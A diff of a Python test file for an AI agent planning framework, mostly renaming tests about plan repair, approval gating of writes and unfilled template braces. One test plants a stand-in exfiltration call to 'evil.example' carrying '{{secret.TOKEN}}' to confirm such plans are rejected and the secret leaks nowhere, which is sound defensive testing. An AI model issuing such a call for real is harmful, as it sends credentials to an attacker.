@@ -50,7 +50,7 @@ async def test_request_is_planned_run_and_answered(scripted: Scripted) -> None:
     )
 
 
-async def test_plan_that_cannot_be_run_goes_back_until_it_can(scripted: Scripted) -> None:
+async def test_plan_that_cannot_be_run_is_returned_until_it_can(scripted: Scripted) -> None:
     wrong = written(call("a", "plus", left=1), call("plan", "pls", left="{{c.result}}", right=4))
     prose = "I would first add the numbers."
     async with scripted(wrong, prose, SUM, "It is 7.") as (server, runs):
@@ -82,7 +82,7 @@ async def test_large_results_are_cut_for_the_answer(scripted: Scripted) -> None:
     assert result.count("[… cut here: ") == 3
 
 
-async def test_write_of_a_plan_is_held_for_a_person_whatever_the_plan_says(scripted: Scripted) -> None:
+async def test_write_of_a_plan_needs_approval_regardless_of_the_plan(scripted: Scripted) -> None:
     bench = Bench()
     write = {**call("a", "change", name="world"), "approval": "never"}
     async with scripted(written(write), "It was not allowed.", bench=bench) as (server, runs):
@@ -145,7 +145,7 @@ async def test_request_of_a_client_of_which_nothing_can_come_ends_its_run_at_onc
     assert [problem["pointer"] for problem in documents[2]["error"]["errors"]] == ["/confg", "/approve_plan", "/config"]
 
 
-async def test_calls_of_a_run_are_told_apart_as_the_page_of_the_planner_says(scripted: Scripted) -> None:
+async def test_calls_of_a_run_are_distinguished_as_the_page_of_the_planner_describes(scripted: Scripted) -> None:
     card = AgentCard(name="clerk", description="Reads", objective_template="Read {what}", type="llm", prompt="Read.")
     plan = written({"id": "mail", "agent": "clerk", "objective": "Read my mail."})
     async with scripted("I would read it.", plan, "Nothing new.", "No news.") as (server, runs):
@@ -178,7 +178,7 @@ def secret(monkeypatch: pytest.MonkeyPatch) -> str:
     return "very-secret-text"
 
 
-def problems_told(received: ReceivedCall) -> list[dict[str, Any]]:
+def problems_in_prompt(received: ReceivedCall) -> list[dict[str, Any]]:
     """Return the problems that a model is shown in a repair."""
     lines = received.messages[-1]["content"].splitlines()
     return [json.loads(line.removeprefix("- ")) for line in lines if line.startswith("- {")]
@@ -193,7 +193,7 @@ async def test_request_with_nul_and_emoji_reaches_the_model_as_it_is(scripted: S
     assert f"Request:\n{words}" in server.calls[1].text
 
 
-async def test_plan_that_wants_a_secret_goes_back_and_no_tool_gets_it(scripted: Scripted, secret: str) -> None:
+async def test_plan_with_a_secret_is_returned_and_no_tool_gets_it(scripted: Scripted, secret: str) -> None:
     wants = written(
         call("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"),
         {"id": "b", "plan": {"nodes": [call("c", "echo", of="{{secret.TOKEN}}")]}},
@@ -201,7 +201,7 @@ async def test_plan_that_wants_a_secret_goes_back_and_no_tool_gets_it(scripted: 
     async with scripted(wants, FIVE, "5") as (server, runs):
         found = await ended(runs, await runs.start_compiled(goal(runs, "Add.", "plus", "echo")))
     assert (found["status"], found["output"]) == ("completed", "5")
-    result = problems_told(server.calls[1])
+    result = problems_in_prompt(server.calls[1])
     assert [(problem["code"], problem["node"]) for problem in result] == [
         ("invalid_reference", "a"),
         ("invalid_reference", "c"),
@@ -210,39 +210,39 @@ async def test_plan_that_wants_a_secret_goes_back_and_no_tool_gets_it(scripted: 
     assert secret not in json.dumps(found)
 
 
-def telling_registry() -> ToolRegistry:
+def braces_registry() -> ToolRegistry:
     """Return a tool whose result contains references, and a tool that returns its arguments."""
 
     @tool(effects="read")
-    def tell() -> str:
+    def braces() -> str:
         return BRACES
 
     @tool(effects="read")
     def echo(**arguments: Any) -> dict[str, Any]:
         return arguments
 
-    return ToolRegistry.of(tell, echo)
+    return ToolRegistry.of(braces, echo)
 
 
 async def test_braces_in_results_and_answers_are_never_filled_in(client: Client, tmp_path: Path, secret: str) -> None:
     wrong = written(call("b", "echo", of=BRACES))
     good = written(
-        {**call("other", "tell"), "title": "Tells more"},
+        {**call("other", "braces"), "title": "Adds braces"},
         call("b", "echo", of="{{other.result}}", text="<{{other.result}}>"),
     )
     async with ModelServer(wrong, good, f"It is {BRACES}") as server:
         settings = Settings(state_dir=tmp_path, model="small", openai_base_url=server.base_url)
-        async with serving_runs(client, telling_registry(), settings=settings) as runs:
-            found = await ended(runs, await runs.start_compiled(goal(runs, f"Tell {BRACES}.", "echo", "tell")))
+        async with serving_runs(client, braces_registry(), settings=settings) as runs:
+            found = await ended(runs, await runs.start_compiled(goal(runs, f"Tell {BRACES}.", "echo", "braces")))
             await runs.check_ended()
     assert found["nodes"]["b"] == done({"of": BRACES, "text": f"<{BRACES}>"})
     assert (found["status"], found["output"]) == ("completed", f"It is {BRACES}")
     assert server.calls[1].messages[-2]["content"] == wrong
-    assert f"Step 'other' (Tells more): completed\nError: null\nResult: {BRACES}" in server.calls[2].text
+    assert f"Step 'other' (Adds braces): completed\nError: null\nResult: {BRACES}" in server.calls[2].text
     assert secret not in "".join(received.text for received in server.calls)
 
 
-async def test_braces_in_what_an_agent_calls_and_is_told_are_never_filled_in(scripted: Scripted, secret: str) -> None:
+async def test_braces_in_calls_and_results_of_an_agent_are_never_filled_in(scripted: Scripted, secret: str) -> None:
     steps = (tool_call("echo", text=BRACES), step(f"It is {BRACES}", last=BRACES))
     async with scripted(*steps) as (server, runs):
         handle = await runs.start_compiled(agent(runs, "echo"), inputs={"objective": f"Say {BRACES}"})
@@ -275,9 +275,7 @@ async def test_ids_and_results_of_the_run_itself_are_refused_from_outside(script
 
 
 @pytest.mark.parametrize("streams", [True, False])
-async def test_plan_all_of_whose_ids_somebody_has_taken_for_other_nodes_goes_back(
-    scripted: Scripted, *, streams: bool
-) -> None:
+async def test_plan_whose_ids_are_all_taken_is_returned(scripted: Scripted, *, streams: bool) -> None:
     released = asyncio.Event()
     other = written(call("b", "plus", left=2, right=3))
     async with scripted(step(FIVE, released=released), other, "5") as (server, runs):
@@ -294,7 +292,7 @@ async def test_plan_all_of_whose_ids_somebody_has_taken_for_other_nodes_goes_bac
     assert "the run has another node 'a' already: choose another id" in server.calls[1].messages[-1]["content"]
 
 
-async def test_nodes_that_somebody_has_added_are_those_of_a_plan_that_does_the_same(scripted: Scripted) -> None:
+async def test_manually_added_nodes_equal_those_of_a_plan(scripted: Scripted) -> None:
     released = asyncio.Event()
     async with scripted(step(FIVE, released=released), "5") as (server, runs):
         handle = await runs.start_compiled(goal(runs, "Add 2 and 3.", "plus"))
